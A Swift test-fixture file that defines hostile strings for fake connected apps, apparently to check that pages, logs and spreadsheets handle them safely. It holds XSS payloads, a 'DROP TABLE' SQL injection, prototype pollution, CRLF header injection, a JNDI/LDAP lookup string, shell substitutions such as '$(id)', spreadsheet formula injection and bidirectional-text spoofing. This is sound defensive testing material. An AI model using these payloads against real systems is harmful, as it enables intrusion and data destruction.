/// Texts that attack the page, log or spreadsheet that contains them.
enum Hostile {
    static let name = (
        first: "<b onmouseover=alert(1)>Bobby</b>",
        middle: "\u{202E}gnp.exe",
        last: "\"\u{301} '; DROP TABLE entries;--"
    )

    static let metadata: JSON = ["__proto__": ["isAdmin": true], "note": "</script><script>alert(1)</script>"]

    static let apps: [ConnectedApp] = [
        makeApp(
            "<script>alert(1)</script>", "</td></tr></table><img src=x onerror=alert(1)>", "<b>openid</b> \"onclick=x"),
        // A combining mark is part of the Character before it, so a search by Character misses the quote, the bracket or
        // the ampersand that a browser sees.
        makeApp(
            "\"\u{301} onmouseover=\"alert(1)", "'\u{301} onfocus=\"\u{301}alert(1)\" autofocus", "\"\u{301} '\u{338}"),
        makeApp("<\u{338}img src=x onerror=alert(1)>\u{338}", ">\u{338}<\u{338}!--", "<\u{338}scope>\u{338}"),
        makeApp("&\u{200D}lt;script&\u{200D}gt;", "&lt;b&gt; &amp;amp; &#x3C; &", "&\u{200D}amp;"),
        // Bidirectional controls (CVE-2021-42574): overrides, isolates and marks.
        makeApp(
            "Bill \u{202E}gnp.\u{202C}exe", "\u{2066}\u{202E}never closed\u{2067} \u{200F}\u{61C}", "\u{202E}nimda"),
        makeApp(
            "First line\r\nSet-Cookie: session=1\r\n\r\n<html>", "\r\n\u{85}\u{2028}\u{2029}\u{B}\u{C}", "a\r\nb\tc"),
        makeApp("before\u{0}after", "\u{0}", "open\u{0}id"),
        makeApp("\u{1B}[31mred\u{1B}[0m \u{7}\u{8}", "%s%n%x ${jndi:ldap://example.com/a} $(id) `id`", "${scope}"),
        makeApp("𝕬𝖉𝖒𝖎𝖓 𠜎 🏴‍☠️👩‍👩‍👧‍👦", "\u{10FFFF}\u{FFFE}\u{FEFF}\u{E0001}", "🔑:𝓪𝓵𝓵"),
        makeApp(repeatedLetter(1024), .string(repeatedLetter(1024)), repeatedLetter(1024)),
        makeApp(
            "Z\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}" + combiningMarks(200),
            .string(combiningMarks(500)), combiningMarks(50)),
        makeApp("{{name}} {{{name}}} {{&name}}", "{{#users}}{{/users}}{{>layout}}{{!}}{{=<% %>=}}", "{{scope}}"),
        makeApp("=HYPERLINK(\"https://example.com\",\"Open\")", "+1+1|' /C calc'!A0", "@SUM(1+1) -2+3"),
        makeApp("Logo of script", "", "openid", logoURL: "javascript:alert(document.domain)"),
        makeApp("Logo of data", "", "openid", logoURL: "data:text/html,<script>alert(1)</script>"),
        makeApp("Lone surrogate", .raw(#""before \ud800 after""#), "openid"),
        makeApp("", "", ""),
        makeApp(" \u{200B}\u{2060}\u{FEFF} ", "Nothing that can be seen.", "  openid   openid  "),
        makeApp("Fernh\u{456}ll Desk", "One letter of the name is Cyrillic.", "openid"),
        makeApp("A type of its own", "Neither first nor third party.", "openid", type: "fourth_party\"><script>"),
        makeApp("Many scopes", "", (1...200).map { "read:collection-\($0)" }.joined(separator: " ")),
    ]

    private static func makeApp(
        _ name: String, _ description: JSON, _ scopes: String, type: String = ClientType.thirdPartyPublic.rawValue,
        logoURL: String? = nil
    ) -> ConnectedApp {
        ConnectedApp(name, description: description, type: type, scopes: scopes, logoURL: logoURL)
    }

    private static func repeatedLetter(_ count: Int) -> String { String(repeating: "W", count: count) }

    private static func combiningMarks(_ count: Int) -> String { String(repeating: "\u{489}", count: count) }
}
